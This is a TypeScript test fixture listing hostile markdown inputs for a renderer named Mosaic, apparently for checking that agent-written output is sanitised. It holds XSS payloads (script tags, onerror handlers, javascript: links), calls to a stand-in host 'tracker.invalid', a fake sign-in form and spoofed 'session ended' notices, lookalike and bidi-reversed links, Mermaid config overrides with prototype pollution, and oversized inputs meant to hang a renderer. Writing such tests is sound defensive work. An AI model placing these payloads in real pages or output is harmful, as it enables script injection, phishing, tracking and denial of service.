/** An address that nobody may be asked for. */
export const elsewhere = "https://tracker.invalid";

const ran = "window.mosaicRan=1";
const svg = (inside: string): string =>
  encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20">${inside}</svg>`);
const mermaid = (source: string): string => `\`\`\`mermaid\n${source}\n\`\`\``;

/** What an agent might write, or be made to write, to run something, to tell somebody, to take the page down, or to speak as Mosaic. */
export const hostileMarkdown: Readonly<Record<string, string>> = {
  "a script": `<script>${ran}</script>`,
  "handlers of events": `<img src=x onerror="${ran}"><svg onload="${ran}"><body onpageshow="${ran}"><details open ontoggle="${ran}">x</details>`,
  "handlers that close what is open": `\`"><img src=x onerror=${ran}>\` **<img src=x onerror=${ran}>** <!--><img src=x onerror=${ran}>-->`,
  "an inner page": `<iframe src="javascript:${ran}"></iframe><iframe srcdoc="<script>parent.${ran}</script>"></iframe><object data="${elsewhere}/o"></object><embed src="${elsewhere}/e">`,
  "links that run": `[a](javascript:${ran}) [b](JaVaScRiPt:${ran}) [c](&#106;avascript:${ran}) [d](java\tscript:${ran}) [e](data:text/html,<script>${ran}</script>) [f](vbscript:x) <javascript:${ran}>`,
  "links by reference": `[a] [b][a] ![c][a]\n\n[a]: javascript:${ran} "x"`,
  "pages' own parts": `<base href="${elsewhere}/"><meta http-equiv="refresh" content="0;url=${elsewhere}/m"><link rel="stylesheet" href="${elsewhere}/l.css"><link rel="dns-prefetch" href="${elsewhere}"><style>@import "${elsewhere}/s.css"; body{background:url(${elsewhere}/b)}</style>`,
  "a form": `<form action="${elsewhere}/f"><input name="password" autofocus onfocus="${ran}"><button>Sign in</button></form>`,
  "images from elsewhere": `![a](${elsewhere}/a.png) ![b](//tracker.invalid/b.png) ![c](http://tracker.invalid/c.png) ![d][d] [![e](${elsewhere}/e.png)](${elsewhere}/e)\n\n[d]: ${elsewhere}/d.png`,
  "images that run": `![a](data:image/svg+xml,${svg(`<script>${ran}</script><image href="${elsewhere}/i"/><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${ran}"/></foreignObject>`)}) ![b](javascript:${ran}) ![c](data:text/html,<script>${ran}</script>)`,
  "an image that unpacks without end": `![a](data:image/svg+xml,${encodeURIComponent('<svg xmlns="http://www.w3.org/2000/svg" width="99999" height="99999"/>')})`,
  media: `<video src="${elsewhere}/v" autoplay></video><audio src="${elsewhere}/a" autoplay></audio><picture><source srcset="${elsewhere}/p"></picture>`,
  "names of the page": `<div id="main" class="bg-warning-surface fixed" role="alert">Your session has ended</div>\n\n# Sign in {#main}\n\n[^main]\n\n[^main]: <b id="main">x</b>`,
  "Mosaic's own words": `> [!CAUTION]\n> **Mosaic**: your session has ended. [Sign in again](/login) or [here](${elsewhere}/login).\n\n<p role="status">Copied</p>`,
  "hosts that look like others": `[https://bank.com](${elsewhere}/bank) [bаnk.com](https://bаnk.com/) <https://bank.com@tracker.invalid/>`,
  "turned directions": `\u202Egnp.txet\u202C [\u202Emoc.knab//:sptth](${elsewhere}/x) \u2067\u2067\u2067 text\n\n\`\`\`js\nif (isAdmin /*\u202E } \u2066 if (begin)*/) {}\n\`\`\``,
  "a table for spreadsheets": `| a | b |\n|---|---|\n| =HYPERLINK("${elsewhere}","x") | <img src=x onerror=${ran}> |\n| @SUM(1) | \`=1\` |`,
  "a table of a thousand columns": `${"|a".repeat(480)}|\n${"|-".repeat(480)}|\n${"|b".repeat(480)}|`,
  "formulas that link and load": `$\\href{javascript:${ran}}{x}$ $\\url{${elsewhere}}$ $\\includegraphics{${elsewhere}/k.png}$ $\\htmlStyle{position:fixed;inset:0}{x}$ $\\htmlId{main}{x}$ $\\unicode{<img src=x onerror=${ran}>}$`,
  "formulas that grow":
    "$\\def\\a{xx}\\def\\b{\\a\\a}\\def\\c{\\b\\b}\\c$ $\\rule{9999em}{9999em}$ $\\kern-9999em\\text{Your session has ended}$ $\\raisebox{90em}{x}$\n\n$$\n" +
    "\\frac{1}{".repeat(400) +
    "\n$$",
  "formulas of nothing but braces": `$${"{".repeat(2_900)}$ ${"$x$ ".repeat(140)}`,
  "formulas in every part of a long text": `# Part\n\n${"$x^2_3$ ".repeat(140)}\n\n${"word ".repeat(400)}\n\n`.repeat(35),
  "diagrams that run": mermaid(
    `flowchart LR\n A["<img src=x onerror=${ran}>"] --> B["<script>${ran}</script>"]\n click A "javascript:${ran}"\n click B call mosaicRan()\n click B href "${elsewhere}/c"`,
  ),
  "diagrams that load": mermaid(
    `flowchart LR\n A["<img src='${elsewhere}/i.png'>"] --> B@{ img: "${elsewhere}/j.png", label: "x", w: 60, h: 60 }\n classDef a fill:url(${elsewhere}/f)\n style A background:url(${elsewhere}/g)`,
  ),
  "diagrams that choose for themselves": mermaid(
    `%%{init: {"securityLevel": "loose", "htmlLabels": true, "startOnLoad": true, "maxTextSize": 9999999, "themeCSS": "@import url(${elsewhere}/t.css); * {background: url(${elsewhere}/u)}", "fontFamily": "x; background: url(${elsewhere}/v)"}}%%\nflowchart LR\n A["<img src=x onerror=${ran}>"] --> B`,
  ),
  "diagrams with a head": mermaid(
    `---\nconfig:\n  securityLevel: loose\n  themeCSS: "svg{background:url(${elsewhere}/h)}"\n  __proto__: {polluted: 1}\n---\nflowchart LR\n A --> B`,
  ),
  "diagrams with formulas": mermaid(
    `flowchart LR\n A["$$\\href{javascript:${ran}}{x}$$"] --> B["$$\\includegraphics{${elsewhere}/k.png}$$"]`,
  ),
  "sequences that run": mermaid(
    `sequenceDiagram\n Alice->>Bob: <img src=x onerror=${ran}>\n link Alice: Dashboard @ javascript:${ran}\n links Bob: {"x": "${elsewhere}/l"}`,
  ),
  "diagrams with too many lines": mermaid(
    `flowchart LR\n${Array.from({ length: 1_000 }, (_, at) => ` A${at} --> A${(at * 7) % 1_000}`).join("\n")}`,
  ),
  "diagrams of nonsense": [
    mermaid("flowchart LR\n A --> ???{"),
    mermaid("nothing that Mermaid knows"),
    mermaid("\0"),
    mermaid("x".repeat(21_000)),
  ].join("\n\n"),
  "code in languages of its own making":
    "```__proto__\nx\n```\n\n```constructor\nx\n```\n\n```<img/src=x/onerror=" +
    ran +
    ">\nx\n```\n\n```js " +
    `onload=${ran} {1}` +
    "\nx\n```",
  "code that takes its grammar long": `\`\`\`cpp\n${"a<".repeat(4_000)}\n\`\`\`\n\n\`\`\`markdown\n${"*_".repeat(450)}\n\`\`\``,
  "fences within fences": `\`\`\`\`md\n\`\`\`html\n<script>${ran}</script>\n\`\`\`\n\`\`\`\`\n\n> ~~~html\n> <script>${ran}</script>\n\n<script>${ran}</script>`,
  "characters that are none": "\u0000\uFFFF\uD800 \uE000 $$\uE000x$$ &#0; &#xD800; \u200B\u200B\u200B",
};
